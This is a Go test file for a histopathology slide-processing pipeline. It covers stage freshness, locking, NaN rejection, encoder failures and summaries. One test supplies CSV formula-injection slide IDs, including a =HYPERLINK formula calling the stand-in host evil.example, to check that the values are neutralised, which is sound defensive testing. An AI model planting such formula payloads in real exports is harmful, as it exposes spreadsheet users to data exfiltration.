package pipeline

import (
	"context"
	"errors"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/her2wsi/her2wsi/features"
	"github.com/her2wsi/her2wsi/features/featfile"
	"github.com/her2wsi/her2wsi/internal/raster"
	"github.com/her2wsi/her2wsi/internal/testutil/fixture"
	"github.com/her2wsi/her2wsi/slide"
)

// shiftedSlide writes a slide with colourSlide's grid (same tissue, same
// patches) but other colours: a re-scan or another stain under one name.
func shiftedSlide(t *testing.T, path string, rows, cols int) {
	t.Helper()
	img := raster.New(256*cols, 256*rows)
	for y := 0; y < img.H; y++ {
		for x := 0; x < img.W; x++ {
			c := cellColour(y/256, x/256)
			img.Set(x, y, c[0]-30, c[1]+10, c[2]-20)
		}
	}
	if err := slide.WriteImage(path, img, 0.5, true); err != nil {
		t.Fatal(err)
	}
}

// slideWork writes a colourSlide of rows×cols cells as DIR/<id>.tif and
// returns a work folder beside it and the slide's input.
func slideWork(t *testing.T, id string, rows, cols int) (Work, []Input) {
	t.Helper()
	dir := t.TempDir()
	path := filepath.Join(dir, id+".tif")
	colourSlide(t, path, rows, cols)
	return Work{Dir: filepath.Join(dir, "work")}, []Input{{Path: path, ID: id}}
}

func testRunner(t *testing.T, work Work, stages ...Stage) *Runner {
	t.Helper()
	return &Runner{Work: work, Stages: stages}
}

func runAll(t *testing.T, r *Runner, ins []Input, force bool) RunReport {
	t.Helper()
	rep, err := r.Run(context.Background(), ins, RunOptions{Force: force})
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

// counts returns done/skipped/failed of a stage.
func counts(t *testing.T, rep RunReport, stage string) (done, skipped, failed int) {
	t.Helper()
	s, ok := rep.Summary(stage)
	if !ok {
		t.Fatalf("no %s summary", stage)
	}
	for _, r := range s.Results {
		if r.Err != nil {
			t.Logf("%s %s: %v", stage, r.ID, r.Err)
		}
	}
	return s.Done, s.Skipped, s.Failed
}

func TestRunnerFreshness(t *testing.T) {
	work, ins := slideWork(t, "rescan", 5, 7)
	path := ins[0].Path
	enc := testEncoder(t, "tiny-clip.onnx")
	aopt := DefaultAnchorOptions()
	aopt.PPK = []int{9}
	r := testRunner(t, work, NewTileStage(work, DefaultTileOptions(), 1), NewEmbedStage(work, enc, DefaultEmbedOptions()), NewAnchorStage(work, aopt, 1))

	rep := runAll(t, r, ins, false)
	for _, st := range []string{StageTile, StageEmbed, StageAnchors} {
		if d, _, f := counts(t, rep, st); d != 1 || f != 0 {
			t.Fatalf("first run: %s done %d failed %d", st, d, f)
		}
	}
	feat1, _, _ := readFeatures(t, work.FeaturesH5("rescan", "tiny-clip"))
	st, err := work.ReadState("rescan")
	if err != nil || st.Stages[StageEmbed].Key == "" || len(st.Stages[StageEmbed].Outputs) != 1 {
		t.Fatalf("state.json: %+v %v", st, err)
	}

	// Rerun: everything is fresh.
	rep = runAll(t, r, ins, false)
	for _, st := range []string{StageTile, StageEmbed, StageAnchors} {
		if _, s, _ := counts(t, rep, st); s != 1 {
			t.Fatalf("second run: %s not skipped", st)
		}
	}
	if st2, _ := work.ReadState("rescan"); st2.Stages[StageEmbed].Key != st.Stages[StageEmbed].Key || len(st2.Stages[StageEmbed].Outputs) != 1 {
		t.Fatal("a skip lost the stage's record")
	}

	// The same name, the same grid, other pixels, and even the old file's
	// modification time: tile and embed are redone, anchors (same
	// coordinates) are not.
	fi, _ := os.Stat(path)
	shiftedSlide(t, path, 5, 7)
	if err := os.Chtimes(path, fi.ModTime(), fi.ModTime()); err != nil {
		t.Fatal(err)
	}
	rep = runAll(t, r, ins, false)
	if d, _, _ := counts(t, rep, StageTile); d != 1 {
		t.Fatal("a re-scan under the same name was not tiled again")
	}
	if d, _, _ := counts(t, rep, StageEmbed); d != 1 {
		t.Fatal("a re-scan under the same name was not embedded again")
	}
	if _, s, _ := counts(t, rep, StageAnchors); s != 1 {
		t.Fatal("anchors of unchanged coordinates were redone")
	}
	feat2, _, _ := readFeatures(t, work.FeaturesH5("rescan", "tiny-clip"))
	same := true
	for i := range feat1 {
		if feat1[i] != feat2[i] {
			same = false
			break
		}
	}
	if same {
		t.Fatal("the features of the re-scan equal the old slide's")
	}

	// An output rewritten behind the runner's back is redone.
	later := time.Now().Add(time.Minute)
	if err := os.Chtimes(work.AnchorsH5("rescan"), later, later); err != nil {
		t.Fatal(err)
	}
	rep = runAll(t, r, ins, false)
	if d, _, _ := counts(t, rep, StageAnchors); d != 1 {
		t.Fatal("a changed anchors.h5 was not redone")
	}
	if _, s, _ := counts(t, rep, StageEmbed); s != 1 {
		t.Fatal("embed redone without a reason")
	}

	// A lost state.json redoes the work rather than skipping it.
	os.Remove(work.StateJSON("rescan"))
	rep = runAll(t, r, ins, false)
	if d, _, _ := counts(t, rep, StageEmbed); d != 1 {
		t.Fatal("without state.json the embed stage was skipped")
	}
}

func TestEmbedRefusesSlideChangedSinceTiling(t *testing.T) {
	work, ins := slideWork(t, "moved", 3, 3)
	path := ins[0].Path
	runAll(t, testRunner(t, work, NewTileStage(work, DefaultTileOptions(), 1)), ins, false)
	shiftedSlide(t, path, 3, 3)
	rep := runAll(t, testRunner(t, work, NewEmbedStage(work, testEncoder(t, "tiny-clip.onnx"), DefaultEmbedOptions())), ins, false)
	s, _ := rep.Summary(StageEmbed)
	if s.Failed != 1 || !strings.Contains(s.Results[0].Err.Error(), "changed since it was tiled") {
		t.Fatalf("embed of a slide changed since tiling: %+v", s.Results)
	}
	if exists(work.FeaturesH5("moved", "tiny-clip")) {
		t.Fatal("features written for a slide changed since tiling")
	}
}

func TestRunnerLockedSlide(t *testing.T) {
	work, ins := slideWork(t, "held", 3, 3)
	os.MkdirAll(work.SlideDir("held"), 0o755)
	l, err := AcquireLock(work, "held", LockOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer l.Release()
	rep := runAll(t, testRunner(t, work, NewTileStage(work, DefaultTileOptions(), 1)), ins, false)
	if rep.Locked != 1 || rep.Slides != 0 || exists(work.SlideJSON("held")) {
		t.Fatalf("a slide locked by a live process was processed: %+v", rep)
	}
}

// testModel opens an untrained model for the tiny test encoder (8
// dimensions).
func testModel(t *testing.T) *LoadedModel {
	t.Helper()
	m, err := OpenModel(fixture.TinyModelDir(t, nil), "", "", "")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(m.Close)
	return m
}

// predictionRows parses predictions.csv into id → row count.
func predictionRows(t *testing.T, work Work) map[string]int {
	t.Helper()
	return fixture.PredictionRows(t, work.PredictionsCSV())
}

// predictEnv is a tiled, embedded, anchored slide and a model.
func predictEnv(t *testing.T) (Work, Input, *LoadedModel) {
	t.Helper()
	work, ins := slideWork(t, "nan", 5, 7)
	m := testModel(t)
	aopt := DefaultAnchorOptions()
	aopt.PPK = []int{m.Config.PPK}
	in := ins[0]
	rep := runAll(t, testRunner(t, work, NewTileStage(work, DefaultTileOptions(), 1), NewEmbedStage(work, testEncoder(t, "tiny-clip.onnx"), DefaultEmbedOptions()), NewAnchorStage(work, aopt, 1)), []Input{in}, false)
	if rep.Failed() > 0 {
		t.Fatalf("preparing: %+v", rep.Summaries)
	}
	return work, in, m
}

func TestPredictNonFinite(t *testing.T) {
	t.Run("features", func(t *testing.T) {
		work, in, m := predictEnv(t)
		p := work.FeaturesH5(in.ID, "tiny-clip")
		feats, coords, dim := readFeatures(t, p)
		info, _, _, err := featfile.ReadInfo(p)
		if err != nil {
			t.Fatal(err)
		}
		feats[3*dim+1] = float32(math.NaN())
		if err := featfile.Write(p, feats, coords, dim, info); err != nil {
			t.Fatal(err)
		}
		ps := NewPredictStage(work, "tiny-clip", m)
		rep := runAll(t, testRunner(t, work, ps), []Input{in}, false)
		s, _ := rep.Summary(StagePredict)
		if s.Failed != 1 || !strings.Contains(s.Results[0].Err.Error(), "non-finite") {
			t.Fatalf("NaN features: %+v", s.Results)
		}
		if exists(work.PredictionsCSV()) || len(ps.Rows()) != 0 {
			t.Fatal("a NaN feature became a prediction")
		}
	})
	t.Run("weights", func(t *testing.T) {
		work, in, m := predictEnv(t)
		for i := range m.Params.Values {
			for j := range m.Params.Values[i] {
				m.Params.Values[i][j] = float32(math.NaN())
			}
		}
		m.Params.Touch()
		rep := runAll(t, testRunner(t, work, NewPredictStage(work, "tiny-clip", m)), []Input{in}, false)
		s, _ := rep.Summary(StagePredict)
		if s.Failed != 1 || !strings.Contains(s.Results[0].Err.Error(), "not finite") {
			t.Fatalf("NaN weights: %+v", s.Results)
		}
		if exists(work.PredictionsCSV()) || exists(work.ReportHTML(in.ID)) {
			t.Fatal("NaN weights became a prediction or a report")
		}
	})
}

// TestEmbedRejectsNonFiniteOutput: an encoder that returns NaN fails the
// slide, and writes no feature file.
func TestEmbedRejectsNonFiniteOutput(t *testing.T) {
	work, ins := slideWork(t, "nanenc", 3, 3)
	tileAll(t, work, ins)
	enc := &nanEncoder{Encoder: testEncoder(t, "tiny-clip.onnx")}
	rep := runAll(t, testRunner(t, work, NewEmbedStage(work, enc, DefaultEmbedOptions())), ins, false)
	s, _ := rep.Summary(StageEmbed)
	if s.Failed != 1 || !strings.Contains(s.Results[0].Err.Error(), "non-finite") || errors.Is(s.Results[0].Err, ErrEncoderRuntime) {
		t.Fatalf("NaN encoder output: %+v", s.Results)
	}
	if exists(work.FeaturesH5("nanenc", "tiny-clip")) {
		t.Fatal("a feature file with NaN was written")
	}
}

func TestEmbedOptionsValidate(t *testing.T) {
	for _, o := range []EmbedOptions{{Batch: 0, Readers: 1, InFlight: 1}, {Batch: 100000000, Readers: 1, InFlight: 1}, {Batch: 8, Readers: 0, InFlight: 1}, {Batch: 8, Readers: 1, InFlight: 1000}} {
		if o.Validate() == nil {
			t.Errorf("%+v accepted", o)
		}
	}
	if err := DefaultEmbedOptions().Validate(); err != nil {
		t.Error(err)
	}
}

// nanEncoder returns NaN for the first value of every batch.
type nanEncoder struct{ features.Encoder }

func (e *nanEncoder) Run(b *features.Batch) ([]float32, error) {
	out, err := e.Encoder.Run(b)
	if err == nil && len(out) > 0 {
		out[0] = float32(math.NaN())
	}
	return out, err
}

// TestPredictionsCSVNeutralisesFormulas: slide names a spreadsheet would
// run as formulas are written as text, read back by a CSV reader as the
// name with a leading quote, and replaced (not duplicated) on a rerun.
func TestPredictionsCSVNeutralisesFormulas(t *testing.T) {
	work := Work{Dir: t.TempDir()}
	ids := []string{`=HYPERLINK("http://evil.example/?x","click")`, "+1+2", "-2+3", "@SUM(A1)", "\tx", "plain,comma", "ok"}
	row := func(id string) PredictRow {
		return PredictRow{SlideID: id, Probs: []float64{0.1, 0.2, 0.3, 0.4}, Predicted: 3, ModelID: "m", Time: time.Unix(0, 0)}
	}
	for round := 0; round < 2; round++ {
		var rows []PredictRow
		for _, id := range ids {
			rows = append(rows, row(id))
		}
		if err := WritePredictions(work, rows); err != nil {
			t.Fatal(err)
		}
	}
	recs := fixture.ReadPredictionsCSV(t, work.PredictionsCSV())
	if len(recs) != 1+len(ids) {
		t.Fatalf("%d rows, want %d (no duplicates on a rerun)", len(recs)-1, len(ids))
	}
	for i, id := range ids {
		got := recs[i+1][0]
		want := id
		if strings.ContainsRune("=+-@\t\r", rune(id[0])) {
			want = "'" + id
		}
		if got != want {
			t.Errorf("cell %q, want %q", got, want)
		}
		if got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) {
			t.Errorf("cell %q starts a formula", got)
		}
	}
}

// TestPredictReportFailureLeavesNoRow: a slide whose report cannot be
// written fails, and predictions.csv gets no row for it.
func TestPredictReportFailureLeavesNoRow(t *testing.T) {
	work, in, m := predictEnv(t)
	if err := os.MkdirAll(filepath.Join(work.ReportHTML(in.ID), "blocker"), 0o755); err != nil {
		t.Fatal(err)
	}
	ps := NewPredictStage(work, "tiny-clip", m)
	rep := runAll(t, testRunner(t, work, ps), []Input{in}, false)
	if s, _ := rep.Summary(StagePredict); s.Failed != 1 {
		t.Fatalf("report failure not a slide failure: %+v", s.Results)
	}
	if rows := predictionRows(t, work); rows[in.ID] != 0 {
		t.Fatalf("a slide without its report has a predictions.csv row: %v", rows)
	}
	if st, _ := work.ReadState(in.ID); st.Stages[StagePredict].Status != "failed" {
		t.Fatalf("state.json: %+v", st.Stages[StagePredict])
	}
}

// brokenEncoder's runtime fails on every batch.
type brokenEncoder struct{ features.Encoder }

func (e *brokenEncoder) Run(*features.Batch) ([]float32, error) {
	return nil, errors.New("CUDA error: an illegal memory access was encountered")
}

// TestEmbedRuntimeFailure: a failure of the encoder's runtime fails every
// slide with ErrEncoderRuntime (not as the slide's own fault), writes
// nothing, and leaves no goroutine behind once the stage is closed.
func TestEmbedRuntimeFailure(t *testing.T) {
	work, ins := slideWork(t, "r1", 3, 3)
	for _, id := range []string{"r2", "r3"} {
		p := filepath.Join(filepath.Dir(ins[0].Path), id+".tif")
		colourSlide(t, p, 3, 3)
		ins = append(ins, Input{Path: p, ID: id})
	}
	tileAll(t, work, ins)
	before := runtime.NumGoroutine()
	st := NewEmbedStage(work, &brokenEncoder{Encoder: testEncoder(t, "tiny-clip.onnx")}, DefaultEmbedOptions())
	r := testRunner(t, work, st)
	rep := runAll(t, r, ins, false)
	s, _ := rep.Summary(StageEmbed)
	if s.Failed != len(ins) {
		t.Fatalf("summary %+v", s)
	}
	for _, res := range s.Results {
		if !errors.Is(res.Err, ErrEncoderRuntime) {
			t.Errorf("%s: %v, want ErrEncoderRuntime", res.ID, res.Err)
		}
		if exists(work.FeaturesH5(res.ID, "tiny-clip")) {
			t.Errorf("%s: feature file written", res.ID)
		}
	}
	if err := r.Close(); !errors.Is(err, ErrEncoderRuntime) {
		t.Errorf("Close: %v", err)
	}
	deadline := time.Now().Add(2 * time.Second)
	for runtime.NumGoroutine() > before && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	if n := runtime.NumGoroutine(); n > before {
		t.Errorf("%d goroutines before, %d after", before, n)
	}
}

// SlideIDOfFile finds the id a file was tiled under, whatever its name.
func TestSlideIDOfFile(t *testing.T) {
	work, ins := slideWork(t, "x", 3, 3)
	ins[0].ID = "HE-x"
	tileAll(t, work, ins)
	if id, ok := work.SlideIDOfFile(ins[0].Path); !ok || id != "HE-x" {
		t.Fatalf("SlideIDOfFile = %q, %v", id, ok)
	}
	if _, ok := work.SlideIDOfFile(filepath.Join(t.TempDir(), "x.tif")); ok {
		t.Fatal("an untiled file was found")
	}
}

// A slide the run was stopped on is interrupted, not failed: counted and
// listed apart, with no error text; a real failure still reads FAILED.
func TestSummaryInterruptedIsNotFailed(t *testing.T) {
	s := NewSummary(StageEmbed, []Result{
		{ID: "a"},
		{ID: "b", Err: fmt.Errorf("pipeline: b: embed: %w", context.Canceled)},
		{ID: "c", Err: errors.New("slide: c.svs: unknown format")},
		{ID: "d", Err: context.Canceled, NotRun: true},
	})
	if s.Done != 1 || s.Interrupted != 1 || s.Failed != 1 || s.NotRun != 1 {
		t.Fatalf("counts %+v", s)
	}
	var b strings.Builder
	s.WriteSummary(&b)
	out := b.String()
	for _, want := range []string{"1 done, 0 skipped, 1 failed, 1 interrupted", "  INTERRUPTED b\n", "  FAILED c: slide: c.svs: unknown format\n"} {
		if !strings.Contains(out, want) {
			t.Errorf("summary lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "FAILED b") || strings.Contains(out, "FAILED d") {
		t.Errorf("interrupted or not-run slide listed as failed:\n%s", out)
	}
}
